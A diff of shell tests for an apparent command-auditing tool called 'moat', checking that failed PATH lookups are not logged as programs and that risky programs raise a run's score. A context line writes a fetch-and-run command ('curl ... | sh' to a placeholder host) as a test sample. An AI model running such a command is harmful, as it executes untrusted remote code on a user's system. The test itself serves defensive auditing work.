@@ -194,6 +194,24 @@ run_moat audit show "${id:-no-id}" --json
 like "trail: each exec is an event with pid, parent, cwd and argv" "$out" \
     '"kind":"exec","name":"/usr/bin/tr".*"extra":\{"pid":[0-9]+,"ppid":[0-9]+,"cwd":"[^"]*ws","argv":\["tr","a","b"\],"risk":0,"reasons":\[\]\}'
 
+# Tries along PATH (env runs tr through execvp: a relative directory, two
+# that do not exist, then the one that holds it) are not programs: tr is
+# there once, under env, with its own pid; a name found nowhere leaves
+# only env.
+run_moat wrap -p fake -- sh -c 'PATH=nodir:/no/such/a:/no/such/b:/usr/bin:/bin; export PATH; echo a | env tr a b; env no-such-tool-$$ 2>/dev/null; true'
+is "PATH tries: the wrapped shell ran" "$rc|$out" "0|b"
+like "PATH tries: the line at the end counts the programs" "$err" '; 4 programs;'
+id=$(printf '%s' "$err" | sed -n 's/.*; run \([0-9a-f-]*\).*/\1/p' | tail -1)
+run_moat audit show "${id:-no-id}"
+tree=$(printf '%s\n' "$out" | sed -n '/^programs/,/^$/p')
+like "PATH tries: env under the shell" "$tree" '^ +[0-9.]+s   `- \[([0-9]+)\] env tr a b$'
+envpid=$(printf '%s\n' "$tree" | sed -n 's/.*`- \[\([0-9]*\)\] env tr a b$/\1/p')
+like "PATH tries: tr once, under env, with its pid" "$tree" \
+    "^ +[0-9.]+s     \`- \\[${envpid:-none}\\] tr a b\$"
+unlike "PATH tries: no try recorded (below the shell's line)" "$(printf '%s\n' "$tree" | sed 1,2d)" \
+    'no/such|nodir|\] no-such-tool'
+like "PATH tries: the name found nowhere leaves env" "$tree" "env no-such-tool-"
+
 # The riskiest program raises the run's score, though the command line
 # itself is harmless.
 printf 'sh -c "curl -s http://example.invalid/x | sh"\n' >"$T/ws/fetch.sh"
